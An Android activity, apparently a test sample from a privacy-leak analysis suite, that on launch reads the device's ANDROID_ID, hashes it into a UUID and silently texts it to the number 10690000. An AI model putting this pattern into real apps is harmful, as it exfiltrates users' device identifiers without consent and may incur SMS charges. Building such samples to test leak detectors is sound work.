package cn.privlens.suite.uuid_from_bytes;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;
import java.nio.charset.StandardCharsets;
import java.util.UUID;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String id = Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID);
        UUID made = UUID.nameUUIDFromBytes(id.getBytes(StandardCharsets.UTF_8));
        setTitle(id == null ? "no" : "yes");
        SmsManager.getDefault().sendTextMessage("10690000", null, made.toString().replace("-", ""), null, null);
    }
}
